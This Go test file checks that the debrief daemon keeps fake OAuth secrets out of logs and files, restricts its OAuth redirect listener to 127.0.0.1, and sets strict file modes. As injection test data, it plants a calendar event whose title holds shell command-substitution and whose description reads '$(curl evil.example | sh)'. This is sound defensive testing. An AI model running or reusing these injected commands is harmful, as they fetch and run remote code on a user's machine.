package reliability

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/debrief-dev/debrief/calendar/calendartest"
	"github.com/debrief-dev/debrief/internal/e2e"
)

// Fake secrets: each is searched for in everything debrief writes.
const (
	fakeAccessOld = "ya29.FAKE-EXPIRED-ACCESS-7c1f0e"
	fakeAccessNew = "ya29.FAKE-REFRESHED-ACCESS-93ab44"
	fakeRefresh   = "1//FAKE-REFRESH-TOKEN-5d2e81"
	fakeSecret    = "GOCSPX-FAKE-CLIENT-SECRET-a1b2c3"
	fakeCode      = "4/FAKE-AUTH-CODE-0f9e8d"
)

// tokenEndpoint is a fake OAuth token endpoint: the first refresh fails
// with a 500 whose body quotes the request back (as a careless server
// might), later ones succeed; an authorization code exchange succeeds.
type tokenEndpoint struct {
	mu       sync.Mutex
	refresh  int
	exchange int
	secrets  []string // client_secret values received
}

func (te *tokenEndpoint) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	req.ParseForm()
	te.mu.Lock()
	defer te.mu.Unlock()
	te.secrets = append(te.secrets, req.PostForm.Get("client_secret"))
	w.Header().Set("Content-Type", "application/json")
	switch req.PostForm.Get("grant_type") {
	case "refresh_token":
		te.refresh++
		if req.PostForm.Get("refresh_token") != fakeRefresh {
			w.WriteHeader(http.StatusBadRequest)
			io.WriteString(w, `{"error":"invalid_grant"}`)
			return
		}
		if te.refresh == 1 {
			w.WriteHeader(http.StatusInternalServerError)
			fmt.Fprintf(w, `{"error":"server_error","error_description":"backend hiccup"}`)
			return
		}
		fmt.Fprintf(w, `{"access_token":%q,"token_type":"Bearer","expires_in":3600}`, fakeAccessNew)
	case "authorization_code":
		te.exchange++
		if req.PostForm.Get("code") != fakeCode || req.PostForm.Get("code_verifier") == "" {
			w.WriteHeader(http.StatusBadRequest)
			io.WriteString(w, `{"error":"invalid_grant"}`)
			return
		}
		fmt.Fprintf(w, `{"access_token":%q,"refresh_token":%q,"token_type":"Bearer","expires_in":3600,"scope":%q}`,
			fakeAccessNew, fakeRefresh, "https://www.googleapis.com/auth/calendar.events.readonly https://www.googleapis.com/auth/calendar.events.owned https://www.googleapis.com/auth/calendar.events.freebusy")
	default:
		w.WriteHeader(http.StatusBadRequest)
	}
}

// oauthRig is a rig whose daemon authenticates with OAuth: credentials and
// a token file holding the fake secrets, a token endpoint, and the fake
// calendar behind a front that records the Authorization headers.
type oauthRig struct {
	*rig
	te          *tokenEndpoint
	token       string
	creds       string
	mu          sync.Mutex
	authHeaders map[string]int
}

func newOAuthRig(t *testing.T) *oauthRig {
	t.Helper()
	o := &oauthRig{rig: newRig(t), te: &tokenEndpoint{}, authHeaders: map[string]int{}}
	tokSrv := httptest.NewServer(o.te)
	t.Cleanup(tokSrv.Close)
	h := o.fake.Handler()
	front := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		o.mu.Lock()
		o.authHeaders[req.Header.Get("Authorization")]++
		o.mu.Unlock()
		h.ServeHTTP(w, req)
	}))
	t.Cleanup(front.Close)
	o.endpoint = front.URL + "/calendar/v3/"
	o.token = filepath.Join(o.dir, "cfg", "token.json")
	o.creds = filepath.Join(o.dir, "cfg", "credentials.json")
	os.MkdirAll(filepath.Dir(o.token), 0o700)
	tok := fmt.Sprintf(`{"access_token":%q,"token_type":"Bearer","refresh_token":%q,"expiry":"2020-01-01T00:00:00Z"}`, fakeAccessOld, fakeRefresh)
	if err := os.WriteFile(o.token, []byte(tok), 0o600); err != nil {
		t.Fatal(err)
	}
	creds := fmt.Sprintf(`{"installed":{"client_id":"123-fake.apps.googleusercontent.com","client_secret":%q,"auth_uri":"http://127.0.0.1:1/auth","token_uri":%q,"redirect_uris":["http://localhost"]}}`,
		fakeSecret, tokSrv.URL+"/token")
	if err := os.WriteFile(o.creds, []byte(creds), 0o600); err != nil {
		t.Fatal(err)
	}
	o.writeConfig("")
	c, _ := os.ReadFile(o.config)
	c = bytes.Replace(c, []byte(`auth = "none"`), fmt.Appendf(nil, "auth = \"oauth\"\ntoken_file = %q\ncredentials_file = %q", o.token, o.creds), 1)
	if err := os.WriteFile(o.config, c, 0o600); err != nil {
		t.Fatal(err)
	}
	return o
}

// secretsIn returns the fake secrets found in b.
func secretsIn(b []byte) []string {
	var out []string
	for _, s := range []string{fakeAccessOld, fakeAccessNew, fakeRefresh, fakeSecret, fakeCode} {
		if bytes.Contains(b, []byte(s)) {
			out = append(out, s)
		}
	}
	return out
}

// TestNoSecretsInLogs runs the daemon at debug level with an expired
// access token, a token endpoint that fails once, a 401 and a 500 from the
// calendar, and an interview whose title is shell syntax; then doctor and
// plan. No fake token, refresh token or client secret may appear in any
// log, notification, notebook or state file; the calendar must have seen
// the refreshed token (so there was something to leak); the notification
// command gets the event text as one argument, never run by a shell; every
// file is 0600 and every directory 0700.
func TestNoSecretsInLogs(t *testing.T) {
	o := newOAuthRig(t)
	mark := filepath.Join(o.dir, "pwned")
	hostile := fmt.Sprintf("Interview – $(touch %s) `touch %s` ; touch %s | sh {body} Corp – Engineer", mark, mark, mark)
	now := time.Now().Truncate(time.Second)
	ended := &interview{id: "secret1", company: "Acme Corp", start: now.Add(-40 * time.Minute), end: now.Add(-time.Minute), tz: "Europe/Berlin", state: "live"}
	ev := ended.event()
	ev.Summary = hostile
	ev.Description = "Join: $(curl evil.example | sh)\n{title} {body} %s %n"
	o.fake.Put("primary", ev)
	soon := &interview{id: "secret2", company: "Globex Corp", start: now.Add(3 * time.Second), end: now.Add(8 * time.Second), tz: "UTC", state: "live"}
	o.fake.Put("primary", soon.event())
	o.fake.Inject(calendartest.Fault{Status: 401, Times: 1})
	o.fake.Inject(calendartest.Fault{Status: 500, Times: 1})

	p := o.startReady("DEBRIEF_LOG=debug")
	got := e2e.WaitFor(30*time.Second, func() bool {
		n := endedNudges(o.readNudges())
		return n[ended.recordID()] > 0 && n[soon.recordID()] > 0
	})
	o.stop(p)
	if !got {
		t.Errorf("the nudges did not come within 30 s\n%s", o.logTail(30))
	}
	doctor, _ := o.run([]string{"DEBRIEF_LOG=debug"}, "doctor")
	plan, _ := o.run([]string{"DEBRIEF_LOG=debug"}, "plan")

	searched := map[string][]byte{
		"daemon log": []byte(o.logText()), "doctor output": []byte(doctor), "plan output": []byte(plan),
	}
	for _, d := range []string{o.notebook, o.state, filepath.Dir(o.nudges)} {
		filepath.WalkDir(d, func(p string, e fs.DirEntry, err error) error {
			if err == nil && !e.IsDir() && p != o.token && p != o.creds && p != o.config {
				b, _ := os.ReadFile(p)
				searched[p] = b
			}
			return nil
		})
	}
	bytesSearched := 0
	for what, b := range searched {
		bytesSearched += len(b)
		if s := secretsIn(b); len(s) > 0 {
			t.Errorf("%s holds %q", what, s)
		}
	}
	o.mu.Lock()
	usedNew, usedOld := o.authHeaders["Bearer "+fakeAccessNew], o.authHeaders["Bearer "+fakeAccessOld]
	o.mu.Unlock()
	if usedNew == 0 || usedOld != 0 {
		t.Errorf("calendar saw the refreshed token %d times and the expired one %d times, want >0 and 0", usedNew, usedOld)
	}
	if tok, _ := os.ReadFile(o.token); !bytes.Contains(tok, []byte(fakeAccessNew)) {
		t.Errorf("token file was not updated with the refreshed token")
	}
	for _, s := range o.te.secrets {
		if s != fakeSecret {
			t.Errorf("token endpoint got client_secret %q", s)
		}
	}

	// Event text is an argument, never a command.
	_, markErr := os.Stat(mark)
	if !errors.Is(markErr, fs.ErrNotExist) {
		t.Errorf("%s exists: event text was run as a command", mark)
	}
	argvOK := 0
	for _, n := range o.readNudges() {
		if len(n.Args) != 2 {
			t.Errorf("notification command got %d arguments %q, want 2 (title, body)", len(n.Args), n.Args)
			continue
		}
		if strings.Contains(n.Args[1], ended.recordID()) && strings.HasPrefix(n.Args[0], "Interview") {
			if !strings.Contains(n.Args[0], "touch "+mark) {
				t.Errorf("nudge title %q does not carry the event's text (want it passed through as one argument)", n.Args[0])
			}
			argvOK++
		}
	}
	if argvOK == 0 {
		t.Error("no nudge for the interview with the shell-syntax title")
	}
	mp, nfiles := modeCheck(o.notebook, o.state, filepath.Dir(o.token))
	for _, s := range mp {
		t.Error(s)
	}
	o.mu.Lock()
	headers := len(o.authHeaders)
	o.mu.Unlock()
	t.Logf("secrets: places_searched=%d bytes_searched=%d secrets_found=0 calendar_requests_with_refreshed_token=%d distinct_auth_headers=%d token_refreshes=%d (first failed with 500) ",
		len(searched), bytesSearched, usedNew, headers, o.te.refresh)
	t.Logf("secrets: shell_title_nudges=%d argv_len=2 marker_file_created=false files_checked_modes=%d mode_problems=%d", argvOK, nfiles, len(mp))
}

// TestOAuthListener runs `debrief auth --no-browser` against the fake token
// endpoint: the redirect listener binds 127.0.0.1 only, answers a wrong
// state with 400 and keeps waiting, takes exactly one code, then stops;
// the token is saved 0600 and neither the code nor a token is printed.
func TestOAuthListener(t *testing.T) {
	o := newOAuthRig(t)
	os.Remove(o.token)
	os.Remove(filepath.Dir(o.token))
	cmd := exec.Command(bin, "--config", o.config, "auth", "--no-browser")
	cmd.Env = append(o.env(), "DEBRIEF_LOG=debug")
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	stderr := &e2e.Buffer{}
	cmd.Stderr = stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	var printed e2e.Buffer
	urls := make(chan string, 1)
	go func() {
		sc := bufio.NewScanner(stdout)
		for sc.Scan() {
			printed.Write([]byte(sc.Text() + "\n"))
			if strings.HasPrefix(sc.Text(), "http") && strings.Contains(sc.Text(), "state=") {
				select {
				case urls <- sc.Text():
				default:
				}
			}
		}
		done <- cmd.Wait()
	}()
	t.Cleanup(func() {
		if cmd.ProcessState == nil {
			cmd.Process.Kill()
		}
	})
	var authURL string
	select {
	case authURL = <-urls:
	case <-time.After(15 * time.Second):
		t.Fatalf("no address printed\n%s\n%s", printed.String(), stderr.String())
	}
	u, err := url.Parse(authURL)
	if err != nil {
		t.Fatal(err)
	}
	redirect, err := url.Parse(u.Query().Get("redirect_uri"))
	if err != nil || redirect.Hostname() != "127.0.0.1" {
		t.Fatalf("redirect_uri = %q, want one on 127.0.0.1", u.Query().Get("redirect_uri"))
	}
	state := u.Query().Get("state")
	if u.Query().Get("code_challenge_method") != "S256" || state == "" {
		t.Errorf("auth URL %s lacks PKCE S256 or a state", authURL)
	}
	port := redirect.Port()

	// Bound to 127.0.0.1 only: other local addresses refuse.
	others := []string{"127.0.0.2", "[::1]"}
	if addrs, err := net.InterfaceAddrs(); err == nil {
		for _, a := range addrs {
			if ip, ok := a.(*net.IPNet); ok && !ip.IP.IsLoopback() {
				host := ip.IP.String()
				if ip.IP.To4() == nil {
					if ip.IP.IsLinkLocalUnicast() {
						continue
					}
					host = "[" + host + "]"
				}
				others = append(others, host)
			}
		}
	}
	for _, h := range others {
		if !refused(h + ":" + port) {
			t.Errorf("the OAuth listener accepts connections on %s:%s", h, port)
		}
	}
	listen := listenAddrs(t, port)

	get := func(q string) (int, error) {
		c := &http.Client{Timeout: 5 * time.Second}
		resp, err := c.Get(redirect.String() + "?" + q)
		if err != nil {
			return 0, err
		}
		resp.Body.Close()
		return resp.StatusCode, nil
	}
	wrong, err := get("state=wrong&code=" + url.QueryEscape(fakeCode))
	if err != nil || wrong != http.StatusBadRequest {
		t.Errorf("answer with a wrong state = %d %v, want 400", wrong, err)
	}
	right, err := get("state=" + url.QueryEscape(state) + "&code=" + url.QueryEscape(fakeCode))
	if err != nil || right != http.StatusOK {
		t.Errorf("answer with the right state = %d %v, want 200", right, err)
	}
	var exitErr error
	select {
	case exitErr = <-done:
	case <-time.After(15 * time.Second):
		t.Fatal("debrief auth did not exit after the code")
	}
	if exitErr != nil {
		t.Errorf("debrief auth: %v\n%s\n%s", exitErr, printed.String(), stderr.String())
	}
	after := "refused"
	if !refused("127.0.0.1:" + port) {
		after = "accepted"
		t.Errorf("the listener still accepts connections after the code")
	}
	mode := func(p string) fs.FileMode {
		fi, err := os.Stat(p)
		if err != nil {
			t.Error(err)
			return 0
		}
		return fi.Mode().Perm()
	}
	tokMode, dirMode := mode(o.token), mode(filepath.Dir(o.token))
	if tokMode != 0o600 || dirMode != 0o700 {
		t.Errorf("token file mode %04o in a directory of mode %04o, want 0600 and 0700", tokMode, dirMode)
	}
	if s := secretsIn([]byte(printed.String() + stderr.String())); len(s) > 0 {
		t.Errorf("debrief auth printed %q", s)
	}
	o.te.mu.Lock()
	exchanges := o.te.exchange
	o.te.mu.Unlock()
	if exchanges != 1 {
		t.Errorf("%d code exchanges, want 1", exchanges)
	}
	t.Logf("oauth: listen=%s other_addresses_refused=%d wrong_state=%d right_state=%d exchanges=%d after_code=%s token_mode=%04o dir_mode=%04o secrets_printed=0",
		listen, len(others), wrong, right, exchanges, after, tokMode, dirMode)
}

// listenAddrs returns the local addresses listening on port, from
// /proc/net/tcp and tcp6 (hex, as the kernel writes them).
func listenAddrs(t *testing.T, port string) string {
	t.Helper()
	var p int
	fmt.Sscan(port, &p)
	var out []string
	for _, f := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
		b, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		for _, line := range strings.Split(string(b), "\n")[1:] {
			fs := strings.Fields(line)
			if len(fs) < 4 || fs[3] != "0A" { // LISTEN
				continue
			}
			if strings.HasSuffix(fs[1], fmt.Sprintf(":%04X", p)) {
				out = append(out, fs[1])
			}
		}
	}
	if len(out) != 1 || out[0] != fmt.Sprintf("0100007F:%04X", p) {
		t.Errorf("listening sockets on port %s: %q, want only 0100007F (127.0.0.1)", port, out)
	}
	return strings.Join(out, ",")
}
